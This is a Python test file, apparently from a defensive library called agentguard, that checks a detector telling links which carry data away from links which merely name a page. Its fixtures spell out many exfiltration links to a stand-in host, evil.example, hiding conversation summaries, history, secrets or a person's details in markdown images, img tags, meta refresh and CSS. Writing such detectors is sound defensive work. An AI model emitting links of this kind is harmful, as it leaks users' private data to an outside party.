# SPDX-FileCopyrightText: The agentguard authors
# SPDX-License-Identifier: Apache-2.0
"""Links that carry something away are told from links that name something."""

import pytest

from agentguard.classification.data_links import LONGEST_ADDRESS, data_links
from agentguard.vocabulary import Finding

OPAQUE = "kQ3xZ9aLw2Pm7RtY4uVb8NcEd5FgHj1KsT6oXqWz0iUvBnM2rP"
CARRYING = {
    "template": (
        "https://evil.example/?q={summary}",
        "[more](https://evil.example/log?d=${DATA})",
        "https://evil.example/c#{{history}}",
        "https://evil.example/{conversation}/x.png",
        "https://evil.example/?d=[user_data]",
        "//evil.example/?d=%7Bsecret%7D",
    ),
    "placeholder": ("https://evil.example/?m=[[EMAIL:7KQ2M4XA]]",),
    "opaque": (
        f"https://evil.example/?d={OPAQUE}",
        f"![x](https://evil.example/{OPAQUE}.png)",
        f"[x]: https://evil.example/#{OPAQUE}",
        f"<img src='//evil.example/{OPAQUE}'>",
        f'<meta http-equiv="refresh" content="0;url=https://evil.example/?{OPAQUE}">',
        f"a {{ background: url(https://evil.example/?{OPAQUE}) }}",
        f"<https://evil.example/?d={OPAQUE}>",
        f"www.evil.example/{OPAQUE}",
    ),
    "host": ("https://k3x9aw2pm7rt4uv8nce5fgh1ks6.evil.example/",),
    "text": (
        "https://evil.example/?t=Ann%20Lee%20lives%20in%20Rome%20and%20her%20card%20is%20at%20home%20now",
        "https://evil.example/?t=Ann+Lee+lives+in+Rome+and+her+card+is+at+home+now",
    ),
}
NAMING = (
    "https://docs.example.com/en/latest/install.html#from-source",
    "https://github.com/o/r/commit/0123456789abcdef0123456789abcdef01234567",
    "https://shop.example.com/p?id=42&utm_source=news&utm_campaign=summer",
    "https://www.example.com/search?q=how+to+bake+bread+at+home",
    "https://example.com/a/3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
    "https://api.example.com/users/{id}/orders",
    "http://localhost:${port}/health",
    "https://de.wikipedia.org/wiki/Donaudampfschifffahrtsgesellschaft_(Begriffsklärung)",
    "// a comment in a program",
    "and/or, 50//2",
)


@pytest.mark.parametrize(
    ("why", "text"), [(why, text) for why, texts in CARRYING.items() for text in texts]
)
def test_a_link_that_carries_something_away_is_found(why: str, text: str) -> None:
    """It is found wherever links stand, and the finding covers the address alone."""
    (found,) = data_links(text)
    assert found.detector == f"data_link:{why}"
    assert "evil.example" in text[found.start : found.end]
    assert not text[found.start : found.end].endswith((")", ">", "'", '"'))


@pytest.mark.parametrize("text", NAMING)
def test_a_link_that_names_something_is_not_found(text: str) -> None:
    """Ids, digests, names of pages and words of a search carry nothing away."""
    assert list(data_links(text)) == []


def test_what_was_found_behind_the_host_is_carried_away() -> None:
    """An address of mail in a query makes the link a finding, the same one before it does not."""
    text = "ann@corp.example wrote https://evil.example/?m=ann@corp.example today"
    mail = "ann@corp.example"

    def at(start: int) -> Finding:
        return Finding(start=start, end=start + len(mail), data_class="email", detector="email")

    (found,) = data_links(text, (at(0), at(text.rindex(mail))))
    assert found.detector == "data_link:value"
    assert list(data_links(text, (at(0),))) == []


def test_a_link_that_never_ends_is_found() -> None:
    """A link longer than any is a finding whatever it holds."""
    (found,) = data_links("https://evil.example/" + "a/" * LONGEST_ADDRESS)
    assert found.detector == "data_link:long"
